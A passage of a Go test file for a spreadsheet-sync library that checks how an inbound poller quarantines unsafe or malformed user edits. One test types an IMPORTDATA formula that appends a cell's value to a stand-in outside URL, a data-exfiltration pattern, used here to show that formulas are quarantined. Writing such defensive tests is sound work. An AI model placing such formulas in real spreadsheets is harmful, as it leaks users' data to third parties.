package engine_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"runtime/debug"
	"strconv"
	"strings"
	"testing"
	"time"

	hikoutei "github.com/hikoutei/hikoutei-go"
	"github.com/hikoutei/hikoutei-go/aggregates"
	"github.com/hikoutei/hikoutei-go/events"
	"github.com/hikoutei/hikoutei-go/hikouteitest"
	"github.com/hikoutei/hikoutei-go/internal/config"
	"github.com/hikoutei/hikoutei-go/internal/engine"
	"github.com/hikoutei/hikoutei-go/internal/fixtures"
	"github.com/hikoutei/hikoutei-go/sheetsio/emulator"
	"github.com/hikoutei/hikoutei-go/sheetsio/gsheets"
	"github.com/hikoutei/hikoutei-go/sheetsio/layout"
)

// End-to-end tests of the inbound path through the engine: the poller
// reads the Input tabs of the emulator, the engine decides and appends.
// The rules themselves (I16, I21) are tested beside their code in
// aggregates and effects; the field cases (C01–C11) are end to end.

func TestInboundAcceptedEditIsCanonicalInOneCommitAndNotEchoed(t *testing.T) {
	x := openInbound(t, t.TempDir(), nil)
	seedParts(t, x, 3)
	if r := x.poll(); r.Escalated != 0 || r.Certified != 1 {
		t.Fatalf("unchanged tab escalated: %+v", r)
	}
	x.typeIn("2", "notes", "checked by Ana")
	x.typeIn("2", "qty", "7")
	before := x.head()
	r := x.poll()
	if r.Escalated != 1 || r.Stats.Accepted != 1 {
		t.Fatalf("edit poll %+v", r)
	}
	var commits = map[string]bool{}
	mustT(t, x.e.Log().ReadFrom(before+1, func(e events.Event) error {
		if e.Type() == events.TypeEntityPersisted || e.Type() == events.TypeObservationAccepted {
			commits[e.Commit] = true
		}
		return nil
	}))
	if len(commits) != 1 {
		t.Fatalf("%s and %s in %d commits", events.TypeEntityPersisted, events.TypeObservationAccepted, len(commits))
	}
	if p := x.part("2"); p.Notes != "checked by Ana" || p.Qty != 7 || p.Name != "part 2" {
		t.Fatalf("entity after the edit: %+v", p)
	}
	fs := x.fieldState("Part", "2")
	if fs.Fields["qty"].Revision != 2 || fs.Fields["notes"].Revision != 2 {
		t.Fatalf("revisions %+v", fs.Fields)
	}
	x.emu.ResetCounters()
	x.drain()
	if x.cellOf("Part_System", "2", "qty") != "7" || x.cellOf("Part_System", "2", "notes") != "checked by Ana" {
		t.Fatalf("system row %v", x.rowOf("Part_System", "2"))
	}
	var inputFx int
	for _, r := range x.inState(aggregates.EffectApplied, 1000) {
		if r.Target.Tab == partInput && r.Op != events.OpAppend {
			inputFx++
		}
	}
	if inputFx != 0 {
		t.Fatalf("the accepted edit was echoed to the Input tab (%d effects)", inputFx)
	}
	if r := x.poll(); r.Escalated != 0 {
		t.Fatalf("after the accepted edit the tab is still uncertified: %+v", r)
	}
}

func TestInboundUnchangedSpreadsheetWithTenInputTabsCostsOneRead(t *testing.T) {
	x := openInbound(t, t.TempDir(), tenEntities())
	u := x.Begin()
	for i := range 10 {
		mustT(t, u.Persist(tenEntity(i, "1")))
		mustT(t, u.Persist(tenEntity(i, "2")))
	}
	_, err := u.Commit(ctx)
	mustT(t, err)
	x.drain()
	x.emu.ResetCounters() // Provision bound the sheetIds: even the first pass is one read
	r := x.poll()
	c := x.emu.Counters(sheetID)
	if r.Tabs != 10 || r.Certified != 10 || c.Reads != 1 || c.Writes != 0 {
		t.Fatalf("unchanged pass over %d tabs: certified %d, %d reads, %d writes", r.Tabs, r.Certified, c.Reads, c.Writes)
	}
	// One edited tab escalates alone: one values read + one grid read of
	// its edited row, addressed by sheetId (no tab listing): two reads,
	// and one more first since the last poll was quiet (its digest-only
	// read, SnapshotUnchanged, which the edit changed).
	mustT(t, x.sheet.Person().Type("T3_Input", "B2", "edited"))
	x.emu.ResetCounters()
	r = x.poll()
	c = x.emu.Counters(sheetID)
	if r.Escalated != 1 || c.Reads != 3 || c.Writes != 0 {
		t.Fatalf("one edited tab: %+v, %d reads %d writes", r, c.Reads, c.Writes)
	}
}

type (
	T0 struct {
		ID   string `hikoutei:"id,pk"`
		Note string `hikoutei:"note,user"`
	}
	T1 T0
	T2 T0
	T3 T0
	T4 T0
	T5 T0
	T6 T0
	T7 T0
	T8 T0
	T9 T0
)

func tenEntities() []hikoutei.EntityDef {
	return []hikoutei.EntityDef{hikoutei.Entity[T0]("T0"), hikoutei.Entity[T1]("T1"), hikoutei.Entity[T2]("T2"), hikoutei.Entity[T3]("T3"),
		hikoutei.Entity[T4]("T4"), hikoutei.Entity[T5]("T5"), hikoutei.Entity[T6]("T6"), hikoutei.Entity[T7]("T7"), hikoutei.Entity[T8]("T8"),
		hikoutei.Entity[T9]("T9")}
}

func tenEntity(i int, id string) any {
	v := T0{ID: id, Note: "n" + id}
	switch i {
	case 1:
		return &[]T1{T1(v)}[0]
	case 2:
		return &[]T2{T2(v)}[0]
	case 3:
		return &[]T3{T3(v)}[0]
	case 4:
		return &[]T4{T4(v)}[0]
	case 5:
		return &[]T5{T5(v)}[0]
	case 6:
		return &[]T6{T6(v)}[0]
	case 7:
		return &[]T7{T7(v)}[0]
	case 8:
		return &[]T8{T8(v)}[0]
	case 9:
		return &[]T9{T9(v)}[0]
	}
	return &v
}

func TestC01_LeadingZerosPollBackAsTextAndANumberInATextColumnIsQuarantined(t *testing.T) {
	x := openInbound(t, t.TempDir(), nil)
	commit(t, x.Store, &Part{ID: "1", SKU: "00123"}, &Part{ID: "2", SKU: "00456"})
	x.drain()
	if r := x.fullScan(); r.Stats.Accepted+r.Stats.Quarantined+r.Stats.Candidates != 0 {
		t.Fatalf("text \"00123\" read back as an edit: %+v", r.Stats)
	}
	x.typeIn("2", "sku", "123") // USER_ENTERED: the number 123
	r := x.poll()
	q := x.quarantine(partInput)
	if r.Stats.Quarantined != 1 || !hasReason(q["2"], "cell_type_mismatch") {
		t.Fatalf("poll %+v, quarantine %v", r.Stats, q)
	}
	if p := x.part("2"); p.SKU != "00456" {
		t.Fatalf("the malformed cell reached SQLite: sku %q", p.SKU)
	}
	x.emu.ResetCounters()
	if r := x.poll(); r.Escalated != 0 || x.emu.Counters(sheetID).Reads != 1 {
		t.Fatalf("recorded evidence re-escalated: %+v", r)
	}
	x.typeIn("2", "sku", "'00789") // a person fixes it as text: an edit, and the evidence clears
	x.poll()
	if p := x.part("2"); p.SKU != "00789" || len(x.quarantine(partInput)["2"]) != 0 {
		t.Fatalf("after the fix: %+v, quarantine %v", p, x.quarantine(partInput))
	}
}

func TestC03_FormulaMergeAndErrorCellsAreQuarantinedNeverImported(t *testing.T) {
	x := openInbound(t, t.TempDir(), nil)
	seedParts(t, x, 5)
	// A formula computing exactly the shown value passes the values-only
	// preflight; the safety full scan finds it.
	mustT(t, x.sheet.Person().TypeFormula(partInput, x.cellRef(partInput, "4", "qty"), "=2+2"))
	if r := x.poll(); r.Escalated != 0 {
		t.Fatalf("values preflight: %+v", r)
	}
	x.fullScan()
	if q := x.quarantine(partInput); !hasReason(q["4"], "cell_formula") {
		t.Fatalf("full scan missed the formula: %v", q)
	}
	mustT(t, x.sheet.Person().TypeFormula(partInput, x.cellRef(partInput, "1", "notes"), `=IMPORTDATA("https://example.invalid/?x="&B2)`))
	mustT(t, x.sheet.Person().TypeFormula(partInput, x.cellRef(partInput, "2", "qty"), "=1/0"))
	mustT(t, x.sheet.Person().Merge(partInput, fmt.Sprintf("C%d:D%d", x.rowNumber("3"), x.rowNumber("3"))))
	// Merging B:C of row 5 hides its qty: a change the values read sees, so
	// the poll reads that row with grid data and finds the merge.
	mustT(t, x.sheet.Person().Merge(partInput, fmt.Sprintf("B%d:C%d", x.rowNumber("5"), x.rowNumber("5"))))
	x.poll()
	q := x.quarantine(partInput)
	if !hasReason(q["1"], "cell_formula") || !hasReason(q["2"], "cell_formula") || !hasReason(q["5"], "cell_merged") {
		t.Fatalf("quarantine %v", q)
	}
	// Row 3's merge shows exactly what the row showed (D3 was empty): like
	// the formula on row 4, only the safety full scan sees it.
	x.fullScan()
	if q := x.quarantine(partInput); !hasReason(q["3"], "cell_merged") {
		t.Fatalf("full scan missed the merge: %v", q)
	}
	for _, id := range []string{"1", "2", "3", "5"} {
		if p := x.part(id); p.Notes != "" || p.Qty != mustAtoi(id) {
			t.Fatalf("part %s imported a computed value: %+v", id, p)
		}
	}
}

func mustAtoi(s string) int64 { n, _ := strconv.Atoi(s); return int64(n) }

func TestC04_BlankIsAnEditOnlyOverANonEmptyValueAndAnEmptyTabIsFlagged(t *testing.T) {
	x := openInbound(t, t.TempDir(), nil)
	commit(t, x.Store, &Part{ID: "7", Notes: "Bolt"}, &Part{ID: "8", Notes: ""}, &Part{ID: "9", Notes: "n"})
	x.drain()
	x.typeIn("7", "notes", "") // non-empty → blank: an edit
	x.typeIn("8", "notes", "") // blank → blank: nothing
	r := x.poll()
	if r.Stats.Accepted != 1 || x.part("7").Notes != "" || x.part("9").Notes != "n" {
		t.Fatalf("blank edits %+v: %+v", r.Stats, x.part("7"))
	}
	x.drain()
	// A person types a short row with no anchor: padded, evidence, no insert.
	mustT(t, x.sheet.Person().Type(partInput, "A20", "'10"))
	x.poll()
	if q := x.quarantine(partInput); !hasReason(q[""], aggregates.ReasonRowWithoutAnchor) {
		t.Fatalf("anchor-less row evidence %v", q)
	}
	if _, err := hikoutei.Get[Part](ctx, x.Store, "10"); !errors.Is(err, hikoutei.ErrNotFound) {
		t.Fatalf("an anchor-less row became an entity: %v", err)
	}
	// The whole tab suddenly reads empty: flagged once, nothing applied row by row.
	mustT(t, x.sheet.Person().DeleteRows(partInput, 2, 19))
	before := x.head()
	r = x.poll()
	types := x.eventTypes(before)
	q := x.quarantine(partInput)
	if !hasReason(q[""], aggregates.ReasonMassDeletion) || len(q["7"])+len(q["8"])+len(q["9"]) != 0 || types[events.TypeEntityPersisted]+types[events.TypeEntityRemoved] != 0 {
		t.Fatalf("empty tab: quarantine %v, events %v", q, types)
	}
	for _, id := range []string{"7", "8", "9"} {
		x.part(id)
	}
	x.emu.ResetCounters()
	if r := x.poll(); r.Escalated != 0 || x.emu.Counters(sheetID).Reads != 1 {
		t.Fatalf("flagged empty tab re-escalated: %+v", r)
	}
}

func TestC05_DuplicatedHeaderBlocksTheTabStrayColumnsAreIgnored(t *testing.T) {
	x := openInbound(t, t.TempDir(), nil)
	seedParts(t, x, 2)
	mustT(t, x.sheet.Person().Type(partInput, "H5", "x")) // stray beyond the header
	x.typeIn("1", "notes", "kept")
	r := x.poll()
	if r.Stats.Accepted != 1 || x.part("1").Notes != "kept" {
		t.Fatalf("a stray cell blocked the tab: %+v", r.Stats)
	}
	x.drain()
	x.typeIn("2", "notes", "while blocked")
	mustT(t, x.sheet.Person().Type(partInput, "D1", "qty")) // header id,sku,qty,qty,…
	before := x.head()
	x.poll()
	if q := x.quarantine(partInput); !hasReason(q[""], aggregates.ReasonTabBlocked) || x.part("2").Notes != "" {
		t.Fatalf("blocked tab: quarantine %v, part %+v, events %v", q, x.part("2"), x.eventTypes(before))
	}
	mustT(t, x.sheet.Person().Type(partInput, "D1", "notes"))
	x.poll()
	if q := x.quarantine(partInput); len(q[""]) != 0 || x.part("2").Notes != "while blocked" {
		t.Fatalf("after the header fix: quarantine %v, part %+v", q, x.part("2"))
	}
}

func TestC06_SortIsNotAnEditAndADeletedRowIsEvidenceOfThatKeyOnly(t *testing.T) {
	x := openInbound(t, t.TempDir(), nil)
	seedParts(t, x, 5)
	p4 := x.part("4")
	p4.Qty = 44
	commit(t, x.Store, p4) // pending while the person sorts
	mustT(t, x.sheet.Person().SortByColumn(partInput, "A", true, 1))
	before := x.head()
	if r := x.poll(); r.Escalated != 0 || x.head() != before {
		t.Fatalf("a sort was seen as a change: %+v %v", r, x.eventTypes(before))
	}
	x.drain()
	if x.cellOf(partInput, "4", "qty") != "44" || x.cellOf(partInput, "4", "id") != "4" || x.cellOf(partInput, "3", "qty") != "3" {
		t.Fatalf("after the sort the update landed elsewhere: %v", x.rows(partInput))
	}
	p4.Qty = 45
	commit(t, x.Store, p4)
	mustT(t, x.sheet.Person().DeleteRows(partInput, x.rowNumber("2"), 1))
	before = x.head()
	r := x.poll()
	types := x.eventTypes(before)
	q := x.quarantine(partInput)
	if !hasReason(q["2"], aggregates.ReasonRowDeleted) || types[events.TypeEntityRemoved]+types[events.TypeEntityPersisted] != 0 || r.Stats.Accepted != 0 {
		t.Fatalf("deleted row: quarantine %v, events %v", q, types)
	}
	x.drain()
	if x.part("2") == nil || x.cellOf(partInput, "4", "qty") != "45" || x.cellOf(partInput, "3", "qty") != "3" || x.cellOf(partInput, "1", "qty") != "1" {
		t.Fatalf("neighbours touched: %v", x.rows(partInput))
	}
	if r := x.poll(); r.Escalated != 0 {
		t.Fatalf("recorded deletion re-escalated: %+v", r)
	}
}

func TestC11_NFDRetypeIsNotAnEditAndEdgeWhitespaceKeysAreMalformed(t *testing.T) {
	x := openInbound(t, t.TempDir(), nil)
	commit(t, x.Store, &Part{ID: "00123", Notes: "Café"}, &Part{ID: "2", Notes: "x"})
	x.drain()
	x.typeIn("00123", "notes", "Cafe\u0301")
	before := x.head()
	x.poll()
	x.fullScan()
	if x.head() != before || x.part("00123").Notes != "Café" {
		t.Fatalf("an NFD retype was an edit: %v", x.eventTypes(before))
	}
	x.typeIn("2", "id", "' 00123") // the key of a bound row, retyped with edge space
	mustT(t, x.sheet.Person().Type(partInput, "A10", "'00123 "))
	mustT(t, x.sheet.Person().Type(partInput, "D10", "new"))
	x.poll()
	q := x.quarantine(partInput)
	if !hasReason(q["2"], "cell_edge_whitespace") || !hasReason(q[""], aggregates.ReasonRowWithoutAnchor) {
		t.Fatalf("quarantine %v", q)
	}
	all, _ := hikoutei.Find[Part](ctx, x.Store)
	if n := len(all); n != 2 || x.part("00123").Notes != "Café" || x.part("2").Notes != "x" {
		t.Fatalf("edge-whitespace keys matched or created records: %d parts", n)
	}
}

func TestDuplicateAnchorsFailClosedIntoQuarantine(t *testing.T) {
	x := openInbound(t, t.TempDir(), nil)
	seedParts(t, x, 3)
	at, err := x.sheet.Person().PasteRow(partInput, x.rowNumber("2"))
	mustT(t, err)
	mustT(t, x.sheet.Person().Type(partInput, fmt.Sprintf("D%d", at), "copy edited"))
	x.poll()
	q := x.quarantine(partInput)
	if len(q["2"]) != 2 || !hasReason(q["2"], aggregates.ReasonDuplicateAnchor) || x.part("2").Notes != "" {
		t.Fatalf("duplicate anchors: quarantine %v, part %+v", q, x.part("2"))
	}
	x.typeIn("3", "notes", "other rows still work")
	x.poll()
	if x.part("3").Notes != "other rows still work" {
		t.Fatal("a duplicate blocked the other rows")
	}
}

func TestC02_InexactBigIntegerIsQuarantinedNeverOverwritesSQLite(t *testing.T) {
	x := openInbound(t, t.TempDir(), nil)
	commit(t, x.Store, &Part{ID: "1", Qty: 1234567890123456789})
	x.drain()
	if r := x.fullScan(); r.Stats.Accepted+r.Stats.Quarantined != 0 {
		t.Fatalf("a big integer written as text read back as a change: %+v", r.Stats)
	}
	x.typeIn("1", "qty", "1234567890123456800") // a number: cannot be the exact integer
	x.poll()
	if q := x.quarantine(partInput); !hasReason(q["1"], "cell_not_exact_integer") || x.part("1").Qty != 1234567890123456789 {
		t.Fatalf("quarantine %v, qty %d", q, x.part("1").Qty)
	}
}

func TestCleanupDeletesOnlyUnambiguousOrphansByFullRowCAS(t *testing.T) {
	x := openInbound(t, t.TempDir(), nil, func(o *hikoutei.SyncOptions) { o.ReconcileInterval = 30 * time.Second })
	seedParts(t, x, 3)
	// Part 2 is removed while a person edits its Input row: the guarded
	// delete is not made and the row carries a person's data.
	x.typeIn("2", "notes", "do not lose me")
	u := x.Begin()
	mustT(t, u.Remove(&Part{ID: "2"}))
	_, err := u.Commit(ctx)
	mustT(t, err)
	x.drain()
	mustT(t, x.sheet.Person().Type(partInput, "A10", "'zz")) // a person's row with an unknown anchor
	mustT(t, x.sheet.Person().Type(partInput, "E10", "'zz"))
	n, err := x.h.Cleanup(ctx)
	if err != nil || n != 0 || x.rowOf(partInput, "2") == nil {
		t.Fatalf("cleanup of an ambiguous orphan: %d %v", n, err)
	}
	// The person clears the note: the row is exactly what the system wrote.
	x.typeIn("2", "notes", "")
	n, err = x.h.Cleanup(ctx)
	if err != nil || n != 1 {
		t.Fatalf("cleanup of an unambiguous orphan: %d %v", n, err)
	}
	var expected string
	for _, r := range x.inState(aggregates.EffectPending, 10) {
		if r.Op == events.OpDelete && r.Target.Anchor == "2" {
			expected = r.ExpectedHash
		}
	}
	if expected == "" {
		t.Fatal("the cleanup delete is not guarded by a full-row hash")
	}
	// CAS: a person touches the row before the delete lands — it stays.
	x.typeIn("2", "sku", "'again")
	x.drain()
	if x.rowOf(partInput, "2") == nil {
		t.Fatal("the cleanup delete ignored its full-row guard")
	}
	x.typeIn("2", "sku", "'00002")
	if n, _ := x.h.Cleanup(ctx); n != 1 {
		t.Fatalf("second cleanup queued %d", n)
	}
	x.drain()
	if x.rowOf(partInput, "2") != nil || x.rowOf(partInput, "zz") == nil || x.rowOf(partInput, "1") == nil || x.rowOf(partInput, "3") == nil {
		t.Fatalf("after cleanup: %v", x.rows(partInput))
	}
}

func TestCleanupRunsOnItsOwnScheduleInThePollerLoop(t *testing.T) {
	x := openInbound(t, t.TempDir(), nil, func(o *hikoutei.SyncOptions) {
		o.ReconcileInterval, o.PollingInterval, o.FullScanInterval = 30*time.Second, time.Hour, time.Hour
	})
	seedParts(t, x, 1)
	// The dispatcher is busy: stuck inside a hung request.
	commit(t, x.Store, &Part{ID: "2"})
	release := make(chan struct{})
	passDone := x.hang(release)
	defer func() { close(release); <-passDone }()
	_, p, _ := x.e.Workers()
	runCtx, cancel := context.WithCancel(ctx)
	done := make(chan error, 1)
	go func() { done <- p.Run(runCtx) }()
	waitFor := func(cond func() bool) {
		t.Helper()
		for {
			_, changed := x.clock.Waiters() // before the check: no missed change
			if cond() {
				return
			}
			select {
			case <-changed:
			case <-time.After(10 * time.Second):
				t.Fatal("timed out")
			}
		}
	}
	waitFor(func() bool { n, _ := x.clock.Waiters(); return n >= 1 })
	x.clock.Advance(30 * time.Second)
	waitFor(func() bool { n, _ := x.clock.Waiters(); return p.C.Cleanups.Load() == 1 && n >= 1 })
	if p.C.Passes.Load() != 0 || p.C.FullScans.Load() != 0 {
		t.Fatalf("passes %d, full scans %d before their cadence", p.C.Passes.Load(), p.C.FullScans.Load())
	}
	cancel()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
}

// EditableCity is a GeoNames city (testdata/data/cities.json.gz) whose name
// and note people edit: its Input tab is key, name, note,
// __hikoutei_row_id (columns A–D).
type EditableCity = fixtures.NotedCity

const cityInput = "City_Input"

// BenchmarkPollInputTab polls the City_Input tab of the first
// HIKOUTEI_BENCH_INBOUND_ROWS GeoNames cities (default 2,000; all of them:
// 171075) against the in-process emulator, so the figures include the
// emulator serving the reads. "unchanged" is the certified one-read pass;
// "100_edits" escalates and accepts 100 rows whose names a person retyped
// (with the timer stopped) per pass; "observe_full" and
// "observe_full_10_edits" time the engine deciding a safety full scan's
// read alone (benchFullObservation). Setup (commit, then the dispatcher
// converging the spreadsheet) is not timed; it is logged.
func BenchmarkPollInputTab(b *testing.B) {
	rows := 2000
	if v := os.Getenv(config.EnvBenchInboundRows); v != "" {
		n, err := strconv.Atoi(v)
		if err != nil || n < 100 {
			b.Fatalf("HIKOUTEI_BENCH_INBOUND_ROWS=%q: want an integer of at least 100", v)
		}
		rows = n
	}
	x, edited := syncedCities(b, rows)
	b.Run("unchanged", func(b *testing.B) {
		b.ReportAllocs()
		peak := trackPeakRSS(b)
		x.emu.ResetCounters()
		passes := int64(0)
		for b.Loop() {
			r, err := x.h.Poll(ctx)
			if err != nil || r.Certified != 1 || r.Escalated != 0 {
				b.Fatalf("unchanged pass: %+v %v", r, err)
			}
			passes++
		}
		if c := x.emu.Counters(sheetID); c.Reads != passes || c.Writes != 0 {
			b.Fatalf("%d unchanged passes cost %d reads, %d writes (want 1 read each)", passes, c.Reads, c.Writes)
		}
		peak()
	})
	b.Run("100_edits", func(b *testing.B) {
		b.ReportAllocs()
		peak := trackPeakRSS(b)
		person := x.sheet.Person()
		n := 0
		for b.Loop() {
			b.StopTimer()
			n++
			for i, e := range edited {
				mustT(b, person.Type(cityInput, e.cell, fmt.Sprintf("edited %d/%d", n, i)))
			}
			x.emu.ResetCounters()
			b.StartTimer()
			r, err := x.h.Poll(ctx)
			b.StopTimer()
			if err != nil || r.Escalated != 1 || r.Stats.Accepted != 100 || r.Stats.Quarantined != 0 || r.Stats.Deferred != 0 {
				b.Fatalf("pass over 100 edits: %+v %v", r, err)
			}
			// The pass before it certified the tab (a quiet poll): this one reads
			// the same values again, digested only, to find them changed
			// (docs/concepts.md, "An idle store digests its reads"), then makes
			// the escalated poll's two reads.
			if c := x.emu.Counters(sheetID); c.Reads != 3 || c.Writes != 0 {
				b.Fatalf("pass over 100 edits: %d reads, %d writes (want the quiet poll's digested values read, a values read and a grid read of the edited rows by sheetId: 3 requests, no write)", c.Reads, c.Writes)
			}
			if c, err := hikoutei.Get[EditableCity](ctx, x.Store, edited[99].key); err != nil || c.Name != fmt.Sprintf("edited %d/99", n) {
				b.Fatalf("city %s after the pass: %+v %v", edited[99].key, c, err)
			}
			// The accepted edits are the expectation now: certified again.
			if r, err := x.h.Poll(ctx); err != nil || r.Escalated != 0 {
				b.Fatalf("after accepting the edits: %+v %v", r, err)
			}
			b.StartTimer()
		}
		peak()
	})
	b.Run("observe_full", func(b *testing.B) { benchFullObservation(b, x, rows, nil) })
	b.Run("observe_full_10_edits", func(b *testing.B) { benchFullObservation(b, x, rows, edited[:10]) })
	b.Run("full_scan", func(b *testing.B) { benchWholeTabPass(b, x, edited, func() { x.fullScan() }) })
	b.Run("anti_entropy", func(b *testing.B) {
		benchWholeTabPass(b, x, edited, func() {
			if _, err := x.disp.AntiEntropy(ctx); err != nil {
				b.Fatal(err)
			}
		})
	})
}

// benchWholeTabPass times pass (a safety full scan or an anti-entropy
// pass: each reads the whole tab and the state of its rows) after a
// person edits one name and a poll accepts it (not timed), so no pass is
// the last one again (unchanged.go).
func benchWholeTabPass(b *testing.B, x *synced, edited []editedCity, pass func()) {
	b.ReportAllocs()
	n := 0
	for b.Loop() {
		b.StopTimer()
		n++
		e := edited[n%len(edited)]
		mustT(b, x.sheet.Person().Type(cityInput, e.cell, fmt.Sprintf("%s %d", b.Name(), n))) // never a cell's value already
		if r, err := x.h.Poll(ctx); err != nil || r.Stats.Accepted != 1 {
			b.Fatalf("poll of one edit: %+v %v", r, err)
		}
		x.drain()
		b.StartTimer()
		pass()
	}
}

// syncedCities opens a Manual-mode synced store declaring EditableCity
// ("City"), commits the first n cities through the public API in units of
// 5,000, runs dispatcher passes until every effect is applied, and checks
// that the Input tab shows n rows under key, name, … and that a first poll
// certifies it unchanged. It logs how long each step took, and returns the
// name cells (and keys) of 100 rows spread over the tab, for the edits.
func syncedCities(b *testing.B, n int) (*synced, []editedCity) {
	b.Helper()
	cities := fixtures.Cities(b)
	if n > len(cities) {
		b.Fatalf("%d rows asked, the data set has %d cities", n, len(cities))
	}
	// A whole-tab read of 171,075 rows takes seconds, beyond openInbound's
	// 5 s request timeout: the same store with a longer one.
	sheet := hikouteitest.NewSheet(b, func(c *gsheets.Config) { c.RequestTimeout = 5 * time.Minute })
	// A dispatch reads every tab it touches in full first, so large batches
	// (here 2 × 25,000 rows) keep the number of whole-tab reads small.
	x := openSyncedOn(b, b.TempDir(), sheet, nil, []hikoutei.EntityDef{hikoutei.Entity[EditableCity]("City")},
		func(o *hikoutei.SyncOptions) { o.MaxBatch = 50000 })
	start := time.Now()
	for i := 0; i < n; i += 5000 {
		u := x.Begin()
		for j := i; j < min(i+5000, n); j++ {
			c := cities[j]
			mustT(b, u.Persist(&EditableCity{Key: c.Key, Name: c.Name, Lat: c.Lat, Lng: c.Lng, Country: c.Country, Admin1: c.Admin1, Admin2: c.Admin2}))
		}
		_, err := u.Commit(ctx)
		mustT(b, err)
	}
	b.Logf("setup: committed %d cities in %v", n, time.Since(start).Round(time.Millisecond))
	start = time.Now()
	for pass := 1; ; pass++ {
		busy, err := x.disp.Pass(ctx)
		mustT(b, err)
		c := x.outbox()
		if c[aggregates.EffectPending]+c[aggregates.EffectProcessing] > 0 {
			if !busy || pass >= 100 {
				b.Fatalf("dispatcher pass %d left effects behind: %v", pass, c)
			}
			continue
		}
		if c[aggregates.EffectApplied] != int64(2*n) || !onlyApplied(c) { // one System and one Input row each
			b.Fatalf("after %d dispatcher passes the outbox is %v, want %d applied", pass, c, 2*n)
		}
		b.Logf("setup: synced in %d dispatcher passes, %v", pass, time.Since(start).Round(time.Millisecond))
		break
	}
	shown, err := x.sheet.Person().Displayed(cityInput)
	mustT(b, err)
	if len(shown) != n+1 || len(shown[0]) != 4 || shown[0][0] != "key" || shown[0][1] != "name" {
		b.Fatalf("the Input tab shows %d rows under %v", len(shown)-1, shown[0])
	}
	edited := make([]editedCity, 100)
	for i := range edited {
		row := 1 + i*n/100 // 0-based, below the header
		edited[i] = editedCity{cell: "B" + strconv.Itoa(row+1), key: shown[row][0]}
	}
	if r, err := x.h.Poll(ctx); err != nil || r.Certified != 1 || r.Escalated != 0 {
		b.Fatalf("first poll of the synced tab: %+v %v", r, err)
	}
	return x, edited
}

type editedCity struct{ cell, key string }

// trackPeakRSS returns the heap to the OS, resets the process's peak
// resident set (VmHWM, through /proc/self/clear_refs) and returns a func
// reporting the peak since then as peak-RSS-MB, next to the resident set
// at the reset (base-RSS-MB); the emulator is in-process, so both include
// the spreadsheet it holds. It reports nothing where /proc is not
// available.
func trackPeakRSS(b *testing.B) func() {
	debug.FreeOSMemory()
	if os.WriteFile("/proc/self/clear_refs", []byte("5"), 0) != nil {
		return func() {}
	}
	base := procStatusKB("VmRSS")
	return func() {
		if peak := procStatusKB("VmHWM"); peak > 0 && base > 0 {
			b.ReportMetric(float64(peak)/1024, "peak-RSS-MB")
			b.ReportMetric(float64(base)/1024, "base-RSS-MB")
		}
	}
}

// procStatusKB reads one "Name: N kB" field of /proc/self/status (0 if absent).
func procStatusKB(field string) int64 {
	data, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(data), "\n") {
		if v, ok := strings.CutPrefix(line, field+":"); ok {
			n, _ := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
			return n
		}
	}
	return 0
}

func TestInboundPollerRunsNextToTheDispatcherWhenNotManual(t *testing.T) {
	sheet := serveSheet(t, emulator.New(emulator.Options{AutoCreate: true}), nil, plainProvider)
	clock := events.NewManualClock(t0)
	s, err := hikoutei.Open(t.Context(), t.TempDir(), hikoutei.Options{Clock: clock, HeartbeatInterval: -1, AcquireWait: -1, LeaseTTL: testLeaseTTL,
		NATS: &hikoutei.NATSOptions{Disabled: true}, Logger: quiet,
		Sync: &hikoutei.SyncOptions{SpreadsheetID: sheetID, Provider: sheet.Provider, Interval: time.Second, ReconcileInterval: time.Hour,
			PollingInterval: 5 * time.Second, FullScanInterval: time.Hour, LookupEnv: func(string) (string, bool) { return "", false }}},
		parts...)
	mustT(t, err)
	t.Cleanup(func() { s.Close() })
	// pump advances the manual clock each time a worker waits, until cond.
	pump := func(what string, cond func() bool) {
		t.Helper()
		deadline := time.After(20 * time.Second)
		for {
			_, changed := clock.Waiters()
			if cond() {
				return
			}
			select {
			case <-changed:
			case <-deadline:
				t.Fatalf("timed out waiting for %s", what)
			}
			clock.Advance(time.Second)
		}
	}
	commit(t, s, &Part{ID: "1", Name: "auto"})
	pump("the rows appended", func() bool {
		r, _ := sheet.Person().Displayed(partInput)
		return len(r) == 2
	})
	mustT(t, sheet.Person().Type(partInput, "D2", "typed while running"))
	pump("the edit accepted", func() bool {
		p, err := hikoutei.Get[Part](ctx, s, "1")
		return err == nil && p.Notes == "typed while running"
	})
	if _, p, _ := engine.Of(s).Workers(); p == nil || p.C.Passes.Load() == 0 {
		t.Fatal("the poller did not run")
	}
}

func TestInboundEditsOfTheKeyOrTheAnchorAreEvidenceNotData(t *testing.T) {
	x := openInbound(t, t.TempDir(), nil)
	seedParts(t, x, 3)
	x.typeIn("1", "id", "'99")                // the key of a bound row
	x.typeIn("3", layout.AnchorHeader, "'3x") // the anchor
	r := x.poll()
	q := x.quarantine(partInput)
	if !hasReason(q["1"], aggregates.ReasonKeyEdited) || !hasReason(q["3x"], aggregates.ReasonUnknownAnchor) || !hasReason(q["3"], aggregates.ReasonRowDeleted) || r.Stats.Accepted != 0 {
		t.Fatalf("poll %+v, quarantine %v", r.Stats, q)
	}
	all, _ := hikoutei.Find[Part](ctx, x.Store)
	if len(all) != 3 || x.part("1").Name != "part 1" {
		t.Fatalf("entities after key/anchor edits: %d", len(all))
	}
}

func TestInboundRenamedInputTabIsStillPolledByItsSheetID(t *testing.T) {
	x := openInbound(t, t.TempDir(), nil)
	seedParts(t, x, 2)
	mustT(t, x.sheet.Person().RenameTab(partInput, "Parts (edit here)"))
	mustT(t, x.sheet.Person().Type("Parts (edit here)", "D2", "renamed tab edit"))
	x.emu.ResetCounters()
	r := x.poll()
	if r.Stats.Accepted != 1 || x.part("1").Notes != "renamed tab edit" || x.emu.Counters(sheetID).Reads != 2 {
		t.Fatalf("poll of a renamed tab: %+v, %d reads", r, x.emu.Counters(sheetID).Reads)
	}
}

func TestCleanupDeletesIdenticalDuplicatesOfABoundKeyOneCopyAtATime(t *testing.T) {
	x := openInbound(t, t.TempDir(), nil)
	seedParts(t, x, 3)
	person := x.sheet.Person()
	for range 2 { // two identical copies of row 2
		_, err := person.PasteRow(partInput, x.rowNumber("3")-1)
		mustT(t, err)
	}
	at, err := person.PasteRow(partInput, x.rowNumber("3")) // a copy of row 3, then edited: ambiguous
	mustT(t, err)
